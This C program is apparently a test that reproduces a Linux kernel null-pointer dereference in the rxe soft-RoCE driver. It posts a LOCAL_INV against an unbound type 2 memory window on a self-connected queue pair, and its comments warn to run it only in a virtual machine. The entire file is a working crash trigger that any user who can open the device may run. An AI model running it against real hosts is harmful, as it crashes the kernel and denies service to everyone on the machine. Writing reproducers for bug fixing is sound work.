/*
 * The kernel's rxe: LOCAL_INV of a memory window of type 2 that is not bound dereferences null in the kernel
 * (drivers/infiniband/sw/rxe/rxe_mw.c, `rxe_do_invalidate_mw`). Any user who may open the device can do it: run it in a
 * virtual machine only.
 *
 *     cc -o local-inv local-inv-of-unbound-window.c -libverbs && ./local-inv DEVICE GID_INDEX
 *
 * A device without the defect completes the request with an error.
 */
#include <infiniband/verbs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static struct ibv_context *open_named(const char *name)
{
	struct ibv_device **list = ibv_get_device_list(NULL);

	for (int i = 0; list && list[i]; i++)
		if (!strcmp(ibv_get_device_name(list[i]), name))
			return ibv_open_device(list[i]);
	return NULL;
}

int main(int argc, char **argv)
{
	struct ibv_context *context = argc == 3 ? open_named(argv[1]) : NULL;
	struct ibv_send_wr wr = { .opcode = IBV_WR_LOCAL_INV, .send_flags = IBV_SEND_SIGNALED }, *bad;
	struct ibv_qp_init_attr init = { .cap = { 4, 4, 1, 1, 0 }, .qp_type = IBV_QPT_RC };
	struct ibv_qp_attr attr = { .qp_state = IBV_QPS_INIT, .port_num = 1 };
	struct ibv_pd *pd;
	struct ibv_qp *qp;
	struct ibv_mw *mw;
	struct ibv_wc wc;

	if (!context) {
		fprintf(stderr, "usage: local-inv DEVICE GID_INDEX\n");
		return 2;
	}
	pd = ibv_alloc_pd(context);
	init.send_cq = init.recv_cq = ibv_create_cq(context, 16, NULL, NULL, 0);
	qp = ibv_create_qp(pd, &init);
	mw = ibv_alloc_mw(pd, IBV_MW_TYPE_2);
	if (!qp || !mw)
		return 1;
	/* Connected with itself. */
	ibv_modify_qp(qp, &attr, IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_ACCESS_FLAGS);
	attr.qp_state = IBV_QPS_RTR;
	attr.path_mtu = IBV_MTU_1024;
	attr.dest_qp_num = qp->qp_num;
	attr.max_dest_rd_atomic = 1;
	attr.min_rnr_timer = 1;
	attr.ah_attr.is_global = 1;
	attr.ah_attr.port_num = 1;
	attr.ah_attr.grh.sgid_index = atoi(argv[2]);
	attr.ah_attr.grh.hop_limit = 1;
	ibv_query_gid(context, 1, atoi(argv[2]), &attr.ah_attr.grh.dgid);
	ibv_modify_qp(qp, &attr, IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN | IBV_QP_RQ_PSN |
		      IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER);
	attr.qp_state = IBV_QPS_RTS;
	attr.timeout = 14;
	attr.retry_cnt = 7;
	attr.rnr_retry = 7;
	attr.max_rd_atomic = 1;
	ibv_modify_qp(qp, &attr, IBV_QP_STATE | IBV_QP_SQ_PSN | IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY |
		      IBV_QP_MAX_QP_RD_ATOMIC);
	wr.invalidate_rkey = mw->rkey;
	if (ibv_post_send(qp, &wr, &bad)) {
		printf("refused when posted\n");
		return 0;
	}
	for (int i = 0; i < 1000; i++) {
		if (ibv_poll_cq(init.send_cq, 1, &wc) > 0) {
			printf("completes: %s\n", ibv_wc_status_str(wc.status));
			return 0;
		}
		usleep(10000);
	}
	printf("does not complete\n");
	return 1;
}
